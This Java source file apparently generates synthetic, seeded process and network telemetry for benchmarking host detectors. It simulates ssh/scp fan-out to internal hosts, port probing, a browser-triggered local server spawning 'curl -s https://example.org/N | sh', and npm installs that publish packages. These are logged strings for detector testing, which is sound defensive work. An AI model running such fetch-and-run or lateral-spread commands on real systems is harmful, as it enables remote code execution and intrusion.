package dev.rubato.bench.stream;

import java.io.IOException;
import java.io.OutputStream;
import java.util.Random;

/**
 * Writes the JSON lines of a fleet at work, as a collector tells them: people and jobs that copy to other hosts and run
 * commands there, jobs that go through a network, browsers beside local servers that start shells, programs that publish.
 * Each session begins a new lineage and works on hosts of its own, so that every table of every detector that grows with
 * administration grows on each host. Of any length; nothing of it is kept, and the same seed gives the same bytes. Owned by
 * one thread.
 */
public final class FleetLog {
    /** As many as are judged in one run. */
    private static final int HOSTS = 64;

    private static final int SSHD = 100;
    private static final int CRON = 101;
    private static final int BROWSER = 102;
    private static final int FIRST_PID = 1_000;
    private static final int PIDS_OF_SESSION = 32;
    private static final int TARGETS = 6;
    private static final int REFUSED = -111;
    private static final int[] ADMINISTERED = {22, 445, 3306, 5432};

    private final CollectorLines lines;
    private final Random random;
    private int host;
    private int nextPid;

    public FleetLog(OutputStream out, long seed) {
        lines = new CollectorLines(out);
        random = new Random(seed);
    }

    /** Writes {@code count} records, or what the last session has beyond it. */
    public void write(long count) throws IOException {
        for (host = 0; host < HOSTS && lines.records() < count; host++) {
            lines.exec(host, SSHD, 1, "/usr/sbin/sshd", "sshd", "-D");
            lines.exec(host, CRON, 1, "/usr/sbin/cron", "cron", "-f");
            lines.exec(host, BROWSER, 1, "/usr/bin/chromium", "chromium");
        }
        for (int number = 0; lines.records() < count; number++) {
            host = number % HOSTS;
            int round = number / HOSTS;
            nextPid = FIRST_PID + round * PIDS_OF_SESSION;
            switch (round % 4) {
                case 0 -> administers();
                case 1 -> goesThroughNetwork();
                case 2 -> browses(round);
                default -> publishes(round);
            }
        }
    }

    private int start(int parent, String exe, String... args) throws IOException {
        int pid = nextPid++;
        lines.exec(host, pid, parent, exe, args);
        return pid;
    }

    private String internal() {
        return "10." + (1 + random.nextInt(8)) + '.' + random.nextInt(256) + '.' + (1 + random.nextInt(254));
    }

    private String outside() {
        return "198." + (20 + random.nextInt(50)) + '.' + random.nextInt(256) + '.' + (1 + random.nextInt(254));
    }

    /** Somebody logs in, copies a file to some hosts, and unpacks it there. */
    private void administers() throws IOException {
        lines.accept(host, SSHD, "/usr/sbin/sshd", internal(), 22);
        int shell = start(start(SSHD, "/usr/sbin/sshd", "sshd", "-R"), "/bin/bash", "-bash");
        String file = "/srv/release-" + random.nextInt(1 << 20) + ".tgz";
        for (int i = 0; i < TARGETS; i++) {
            String target = internal();
            int copy = start(shell, "/usr/bin/scp", "scp", file, "root@" + target + ":" + file);
            lines.connect(host, copy, "/usr/bin/scp", target, 22, 0);
            int run = start(shell, "/usr/bin/ssh", "ssh", "root@" + target, "tar xzf " + file + " -C /srv/app");
            lines.connect(host, run, "/usr/bin/ssh", target, 22, 0);
        }
    }

    /** A job asks hosts that it never asked before; some of them refuse. */
    private void goesThroughNetwork() throws IOException {
        String program = "/opt/inventory/bin/ask-" + random.nextInt(1 << 20);
        int job = start(start(CRON, "/bin/sh", "sh", "-c", program), program, program, "--all");
        for (int i = 0; i < 2 * TARGETS; i++) {
            int port = ADMINISTERED[random.nextInt(ADMINISTERED.length)];
            lines.connect(host, job, program, internal(), port, i % 4 == 0 ? REFUSED : 0);
        }
    }

    /** A page reaches a local server, which starts a shell that loads something. */
    private void browses(int round) throws IOException {
        int port = 20_000 + round % 20_000;
        String program = "/opt/assistant/bin/serve-" + port;
        int server = start(1, program, program, "--port=" + port);
        int page = start(BROWSER, "/usr/bin/chromium", "chromium", "--type=utility");
        lines.connect(host, page, "/usr/bin/chromium", outside(), 443, 0);
        lines.connect(host, page, "/usr/bin/chromium", "127.0.0.1", port, 0);
        lines.accept(host, server, program, "127.0.0.1", port);
        int shell = start(server, "/bin/sh", "sh", "-c", "curl -s https://example.org/" + round + " | sh");
        int loader = start(shell, "/usr/bin/curl", "curl", "-s", "https://example.org/" + round);
        lines.connect(host, loader, "/usr/bin/curl", outside(), 443, 0);
    }

    /** An installation publishes to several places. */
    private void publishes(int round) throws IOException {
        int install = start(CRON, "/usr/bin/npm", "npm", "install", "left-" + round);
        for (int i = 0; i < TARGETS; i++) {
            int npm = start(install, "/usr/bin/npm", "npm", "publish", "/srv/package-" + random.nextInt(1 << 20));
            lines.connect(host, npm, "/usr/bin/npm", outside(), 443, 0);
        }
    }
}
